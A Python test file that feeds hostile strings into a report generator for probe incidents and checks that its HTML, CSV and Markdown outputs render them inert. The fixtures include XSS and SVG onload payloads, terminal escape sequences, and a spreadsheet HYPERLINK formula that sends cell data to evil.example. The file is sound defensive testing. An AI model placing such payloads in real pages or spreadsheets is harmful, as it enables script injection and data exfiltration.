"""A hand-over of what a hostile server, user or file wrote: text, and nothing but text."""

import csv
import io
import re
from pathlib import Path
from xml.etree import ElementTree

import pytest
from changed import replace
from handed import facts_of, recorded
from strict_html import StrictPage

from probes.events import AttemptFinished, Event, Hello, ProbeFinished
from probes.handover.folder import hand_over
from probes.handover.markdown_text import markdown
from probes.handover.recorded_run import read_run
from probes.handover.window import stretch_of_incident

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
SVG = '</text></svg><svg onload="alert(3)"><a href="https://evil.example/">x</a>'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"pay")'
TERMINAL = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u2066\x00\x9b31m"
MARKDOWN = (
    "[click](https://evil.example/) ![x](https://evil.example/p.png) | `x` <b>@all www.evil.example"
)
NAME = f"al{SCRIPT}pha"
"""A route may be called anything."""


def hostile(event: Event) -> Event:
    match event:
        case Hello():
            routes = tuple(
                replace(
                    info,
                    name=NAME if info.name == "alpha" else info.name,
                    model=SVG,
                    base_url="https://user:hunter2@api.example.com/v1?key=sk-hunter2&x=1",
                )
                for info in event.routes
            )
            return replace(event, routes=routes)
        case AttemptFinished() if event.outcome != "ok":
            return replace(
                event,
                route=NAME if event.route == "alpha" else event.route,
                message=f"{SCRIPT}{SVG}{TERMINAL}{MARKDOWN}",
                reason="unavailable",
                request_id=FORMULA,
                request_ids={"x-request-id": f"-{SCRIPT}", "cf-ray": "\t@SUM(1)"},
                served_model=FORMULA,
            )
        case _ if getattr(event, "route", "") == "alpha":
            return replace(event, route=NAME)
        case _ if getattr(event, "routes", ()) and not isinstance(event, ProbeFinished):
            routes = tuple(
                replace(one, route=NAME) if getattr(one, "route", "") == "alpha" else one
                for one in event.routes  # type: ignore[union-attr]
            )
            return replace(event, routes=routes)
        case _:
            return event


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("hostile")
    run = read_run([recorded(place / "run.jsonl", change=hostile)])
    facts = facts_of(run)
    assert facts.incident is not None
    assert facts.incident.routes == (NAME,)
    record = facts.incident
    stretch = stretch_of_incident(record, run.timeline.recorded_span)
    return hand_over(run.timeline, stretch, place / "out", incident=record.word.id).folder


def test_the_page_has_no_script_no_address_and_no_handler(folder: Path) -> None:
    page = StrictPage((folder / "report.html").read_text())
    assert page.tags.count("h1") == 1
    assert len(page.ids) == len(set(page.ids))
    assert not {"script", "img", "a", "iframe", "object", "embed", "link", "base", "form"} & {
        *page.tags
    }
    names = {name for _, name, _ in page.attributes}
    assert not names & {"src", "href", "xlink:href", "style", "srcset", "action", "background"}
    assert not [name for name in names if name.startswith("on")]
    assert "url(" not in (folder / "report.html").read_text()
    assert "alert(1)" in page.text, "it stands there as text"


def test_the_policy_of_the_page_allows_its_own_style_alone(folder: Path) -> None:
    page = StrictPage((folder / "report.html").read_text())
    (policy,) = [value for _, name, value in page.attributes if "default-src" in value]
    assert re.fullmatch(
        r"default-src 'none'; style-src 'sha256-[\w+/]+='; base-uri 'none'; form-action 'none'",
        policy,
    )


def test_pictures_are_well_formed_whatever_names_are_in_them(folder: Path) -> None:
    text = (folder / "report.html").read_text()
    pictures = re.findall(r"<svg .*?</svg>", text, re.DOTALL)
    assert len(pictures) > 5
    for picture in pictures:
        tree = ElementTree.fromstring(picture)  # noqa: S314 - our own, and without entities
        assert {one.tag for one in tree.iter()} <= {"svg", "title", "text", "path", "rect"}


def test_no_file_has_what_a_terminal_obeys_but_the_recording(folder: Path) -> None:
    """The recording keeps the data, as files do: JSON escapes what is not printable in it."""
    for path in folder.iterdir():
        text = path.read_bytes().decode()
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text), path.name
        if path.name != "recording.jsonl":
            assert not re.search("[\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]", text), (
                path.name
            )


def test_no_cell_of_the_table_is_a_formula(folder: Path) -> None:
    raw = (folder / "attempts.csv").read_bytes().decode()
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert {len(row) for row in rows} == {len(rows[0])}
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_users_and_values_of_queries_are_masked(folder: Path) -> None:
    for path in folder.iterdir():
        assert "hunter2" not in path.read_text(), path.name
    assert "api.example.com" in (folder / "routes.redacted.toml").read_text()


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://b.example)",
        "![a](https://b.example)",
        "<b>bold</b>",
        "`code`",
        "*a* _b_ ~~c~~",
        "a | b",
        "https://b.example",
        "www.b.example",
        "@all",
        "# title",
        "- item",
        "1. item",
        "&lt;",
        "$x$",
    ],
)
def test_markdown_is_text(text: str) -> None:
    from markdown_it import MarkdownIt

    html = (
        MarkdownIt("gfm-like")
        .enable(["linkify", "table", "strikethrough"])
        .render(f"- {markdown(text)}\n\n{markdown(text)}\n")
    )
    tags = set(re.findall(r"<(\w+)", html))
    assert tags <= {"ul", "li", "p"}, html


def test_figures_and_times_stay_readable_in_markdown() -> None:
    told = "2026-11-30 05:12:04 UTC, 41 of 50 (82 %) failed: TTFT 2.6 s, usual 0.73"
    assert markdown(told) == told
